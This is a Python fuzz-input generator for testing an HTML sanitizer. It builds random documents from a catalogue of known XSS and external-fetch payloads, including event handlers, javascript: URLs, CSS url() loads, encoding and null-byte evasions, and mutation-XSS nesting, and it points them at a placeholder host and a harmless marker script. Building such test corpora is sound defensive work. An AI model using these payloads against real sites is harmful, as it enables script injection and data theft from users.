"""Hostile HTML by the thousand: pieces of known attacks, put together at random. `hit()` is what must not run, and
`https://leak.invalid/` what must not be asked."""

from __future__ import annotations

import random

LEAK = "https://leak.invalid/x"
_CODE = "window.hit=1"
_OPENERS = (
    "<svg>",
    "<math>",
    "<math><mtext>",
    "<svg><foreignObject>",
    "<svg><desc>",
    "<math><annotation-xml encoding=text/html>",
    "<table>",
    "<form>",
    "<select>",
    "<noscript>",
    "<template>",
    "<style>",
    "<title>",
    "<textarea>",
    "<xmp>",
    "<iframe>",
    "<noembed>",
    "<plaintext>",
    "<mglyph>",
    "<malignmark>",
    "<a>",
    "<p>",
    "<b>",
    "<!--",
    "<![CDATA[",
    "<?xml ",
    "<frameset>",
    "<math><mi><mglyph><style>",
    "<svg></p><style>",
    "<details open>",
    "<object>",
    "<video>",
    "<body>",
    "<div style='",
    '<a title="',
    "<img alt='",
    "<img alt=`",
    "</",
)
_CLOSERS = (
    "</style>",
    "</title>",
    "</textarea>",
    "</svg>",
    "</math>",
    "</noscript>",
    "</template>",
    "-->",
    "]]>",
    "--!>",
    "</xmp>",
    "</table>",
    "</form>",
    "</p>",
    "</a>",
    "'>",
    '">',
    "`>",
    ">",
    "</iframe>",
    "</br>",
    "\0",
    "</select>",
)
_PAYLOADS = (
    f"<img src=x onerror={_CODE}>",
    f"<script>{_CODE}</script>",
    f"<svg onload={_CODE}>",
    f"<svg/onload={_CODE}//",
    f"<a href=javascript:{_CODE}>x</a>",
    f"<a href='java\nscript:{_CODE}'>x</a>",
    f"<a href=&#106avascript:{_CODE}>x</a>",
    f"<iframe srcdoc='<script>parent.{_CODE}</script>'></iframe>",
    f"<iframe src=javascript:parent.{_CODE}></iframe>",
    f"<object data={LEAK}></object>",
    f"<embed src={LEAK}>",
    f"<link rel=stylesheet href={LEAK}>",
    f"<base href={LEAK}>",
    f"<meta http-equiv=refresh content='0;url={LEAK}'>",
    f"<style>@import '{LEAK}';*{{background:url({LEAK})}}</style>",
    f"<div style='background:url({LEAK})'>x</div>",
    f"<div style='background:u\\72l({LEAK})'>x</div>",
    f"<div style='background:image-set(\"{LEAK}\" 1x)'>x</div>",
    f"<div style='list-style:url({LEAK})'><li>x</div>",
    f"<div style='content:url({LEAK});background:/**/url({LEAK})'>x</div>",
    f"<p style='font:1px/1 url({LEAK})'>",
    f"<img src={LEAK}>",
    f"<img srcset='{LEAK} 1x'>",
    f"<picture><source srcset={LEAK}><img></picture>",
    f"<video poster={LEAK} src={LEAK} autoplay></video>",
    f"<audio src={LEAK} autoplay></audio>",
    f"<table background={LEAK}><td background={LEAK}>x</table>",
    f"<body background={LEAK} onload={_CODE}>",
    f"<input type=image src={LEAK} autofocus onfocus={_CODE}>",
    f"<form action={LEAK}><button autofocus onfocus={_CODE}>",
    f"<details open ontoggle={_CODE}>x</details>",
    f"<svg><image href={LEAK} xlink:href={LEAK} /></svg>",
    f"<svg><use href='{LEAK}#x'/></svg>",
    f"<svg><a xlink:href=javascript:{_CODE}><text>x</text></a></svg>",
    f"<svg><animate onbegin={_CODE} attributeName=x dur=1s>",
    f"<svg><script>{_CODE}</script></svg>",
    f"<math><maction xlink:href=javascript:{_CODE}>x</maction></math>",
    f"<p onpointerenter={_CODE} onanimationstart={_CODE}>",
    f"<noscript><p title='</noscript><img src=x onerror={_CODE}>'>",
    f"<img src='x`onerror={_CODE}'>",
    f"<a title='</a><img src=x onerror={_CODE}>'>x</a>",
    f'<b title="--><img src=x onerror={_CODE}>">x</b>',
    f"<style><!--</style><img src=x onerror={_CODE}>-->",
    f"<img src='data:image/svg+xml,<svg onload=parent.{_CODE}>'>",
    f"<img src='data:text/html,<script>{_CODE}</script>'>",
    f"<isindex type=image src={LEAK} onerror={_CODE}>",
    f"<a href='data:text/html,<script>opener.{_CODE}</script>' ping={LEAK}>x</a>",
    f"<q cite={LEAK}>x</q>",
    f"+ADw-script+AD4-{_CODE}+ADw-/script+AD4-",
    f"\x3cimg\x0csrc=x\x0conerror={_CODE}\x3e",
    f"<scr\0ipt>{_CODE}</scr\0ipt>",
    f"<ſcript>{_CODE}</ſcript>",
    f"<img/src=x/onerror={_CODE}>",
    f"&lt;img src=x onerror={_CODE}&gt;",
    f"<marquee onstart={_CODE}>x</marquee>",
    f"<portal src={LEAK}></portal>",
    f"<img lowsrc={LEAK} dynsrc={LEAK} longdesc={LEAK}>",
)


def document(chance: random.Random) -> str:
    """One attack: payloads between openers and closers of contexts that parsers have stumbled over."""
    pieces: list[str] = []
    for _ in range(chance.randint(1, 6)):
        kind = chance.random()
        pieces.append(chance.choice(_PAYLOADS if kind < 0.45 else _OPENERS if kind < 0.75 else _CLOSERS))
    text = "".join(pieces)
    change = chance.random()
    if change < 0.1:
        text = text.swapcase()
    elif change < 0.15:
        at = chance.randrange(len(text) + 1)
        text = text[:at] + chance.choice(("\0", "\x0c", "\ufeff", "/", "<", '"', "'", "&#0;", "<!-->")) + text[at:]
    elif change < 0.2:
        text = text[: chance.randrange(len(text) + 1)]
    return text


def documents(seed: int, count: int) -> list[str]:
    chance = random.Random(seed)
    return [*_PAYLOADS, *(document(chance) for _ in range(count))]
